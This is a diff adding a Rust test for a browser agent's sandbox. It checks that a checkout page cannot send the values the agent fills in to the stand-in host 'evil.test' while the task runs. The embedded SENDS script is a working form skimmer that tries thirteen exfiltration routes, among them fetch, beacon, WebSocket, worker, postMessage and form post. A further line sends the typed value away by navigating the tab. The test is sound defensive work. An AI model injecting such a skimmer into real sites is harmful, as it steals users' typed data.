@@ -1,0 +1,137 @@
+//! What a page does with what was filled in.
+
+use std::thread;
+use std::time::{Duration, Instant};
+
+use crate::stage::{FORM, REQUEST, Stage};
+
+/// Sends what is typed to the attacker in every way that a script has, and says so when it has tried them all.
+const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe><script>
+  const to = 'https://evil.test:PORT/';
+  const ways = {
+    fetch: (d) => fetch(to + 'fetch?' + d, { mode: 'no-cors' }),
+    beacon: (d) => navigator.sendBeacon(to + 'beacon', d),
+    image: (d) => { new Image().src = to + 'image?' + d; },
+    style: (d) => document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href="${to}style?${d}">`),
+    script: (d) => { document.head.append(Object.assign(document.createElement('script'), { src: to + 'script?' + d })); },
+    frame: (d) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${to}frame?${d}"></iframe>`),
+    socket: (d) => new WebSocket(`${to.replace('https', 'wss')}socket?${d}`),
+    worker: (d) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}worker?${d}', { mode: 'no-cors' })`]))),
+    other: (d) => document.getElementById('inner').contentWindow.postMessage(to + 'other?' + d, '*'),
+    sandbox: (d) => document.body.insertAdjacentHTML('beforeend',
+      `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${to}sandbox?${d}', { mode: 'no-cors' })<\/script>"></iframe>`),
+    blank: (d) => { const el = document.body.appendChild(document.createElement('iframe'));
+      el.contentWindow.fetch(to + 'blank?' + d, { mode: 'no-cors' }); },
+    redirect: (d) => fetch('/redirect?' + d, { mode: 'no-cors' }),
+    form: (d) => { const form = document.createElement('form'); Object.assign(form, { action: to + 'form', method: 'post', target: 'f' });
+      form.append(Object.assign(document.createElement('input'), { name: 'd', value: d })); document.body.append(form); form.submit(); },
+  };
+  const send = () => {
+    const d = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
+    for (const way of Object.values(ways)) { try { Promise.resolve(way(d)).catch(() => {}); } catch {} }
+    setTimeout(() => { document.body.dataset.sent = ''; }, 700);
+  };
+  let timer;
+  addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(send, 50); });
+  </script><iframe name="f"></iframe>"#;
+
+const FRAME: &str =
+    "<!doctype html><script>addEventListener('message', (e) => { new Image().src = e.data; });</script>";
+
+#[test]
+fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over() {
+    let mut stage = Stage::new(17);
+    stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
+    stage.site.put("bank.test/frame", FRAME);
+    stage.site.put("bank.test/", "<!doctype html><img src='https://evil.test:PORT/logo'>");
+    let redirect = stage.site.url("evil.test/redirected");
+    stage.site.redirect("shop.test/redirect", &redirect);
+    stage.serve(true);
+    stage.browse();
+    let url = stage.site.url("shop.test/checkout");
+    stage.browser().open(&url);
+
+    // Without a value in it the page sends what it likes: so the attacker does listen.
+    stage.browser().evaluate("send()");
+    wait_for(&mut stage, "'sent' in document.body.dataset");
+    let before = stage.site.sent_to("evil.test");
+    for way in WAYS {
+        assert!(before.contains(&format!("evil.test /{way}")), "{way} is no way: {before}");
+    }
+    stage.browser().open(&url);
+    stage.task();
+    stage.agent_until(None, "Deliver to");
+    let reply = stage.agent(Some(REQUEST));
+    assert!(reply.contains("GRANT.address"), "{reply}");
+    wait_for(&mut stage, "'sent' in document.body.dataset");
+    assert_eq!(stage.browser().values()["street"], stage.value("street"));
+    assert_eq!(stage.site.sent_to("evil.test"), before, "after the fill nothing goes there");
+
+    // Nor by taking the whole tab there, nor from another tab of the same site, a worker stopped meanwhile or not.
+    stage.browser().stop_worker();
+    let leave = format!(
+        "location.href = '{}?' + encodeURIComponent(document.forms[0].elements.street.value)",
+        stage.site.url("evil.test/leave")
+    );
+    stage.browser().evaluate(&leave);
+    thread::sleep(Duration::from_millis(700));
+    stage.browser().tab(&url);
+    // A frame without an origin is told by its tab alone, and that is known a moment after the page is there.
+    thread::sleep(Duration::from_millis(800));
+    stage.browser().evaluate("send()");
+    wait_for(&mut stage, "'sent' in document.body.dataset");
+    assert_eq!(stage.site.sent_to("evil.test"), before, "nor by leaving, nor from another tab");
+
+    // Another site in the same tab is left alone, and the shop is narrow again when the person comes back.
+    let bank = stage.site.url("bank.test/");
+    let began = Instant::now();
+    while !stage.site.sent_to("evil.test").contains("/logo") {
+        assert!(began.elapsed() < Duration::from_secs(10), "another site's page is not ours to narrow");
+        stage.browser().open(&bank);
+        thread::sleep(Duration::from_millis(200));
+    }
+    let before = stage.site.sent_to("evil.test");
+    stage.browser().open(&url);
+    thread::sleep(Duration::from_millis(800));
+    stage.browser().evaluate("send()");
+    wait_for(&mut stage, "'sent' in document.body.dataset");
+    assert_eq!(stage.site.sent_to("evil.test"), before, "the shop's page of later");
+    stage.no_value_got_out();
+
+    // The shop itself gets what is sent to it.
+    stage.browser().evaluate("fetch('/mine?' + 42)");
+    thread::sleep(Duration::from_millis(300));
+    assert!(stage.site.sent_to("shop.test").contains("/mine?42"));
+
+    stage.end_task();
+    let began = Instant::now();
+    while stage.site.sent_to("evil.test") == before {
+        assert!(began.elapsed() < Duration::from_secs(20), "the task is over, and the way still narrow");
+        stage.browser().evaluate("ways.fetch('after')");
+        thread::sleep(Duration::from_millis(300));
+    }
+}
+
+const WAYS: [&str; 13] = [
+    "fetch",
+    "beacon",
+    "image",
+    "style",
+    "script",
+    "frame",
+    "socket",
+    "worker",
+    "other",
+    "sandbox",
+    "blank",
+    "redirected",
+    "form",
+];
+
+fn wait_for(stage: &mut Stage, condition: &str) {
+    let began = Instant::now();
+    while stage.browser().evaluate(condition) != true {
+        assert!(began.elapsed() < Duration::from_secs(10), "{condition}");
+        thread::sleep(Duration::from_millis(100));
+    }
+}
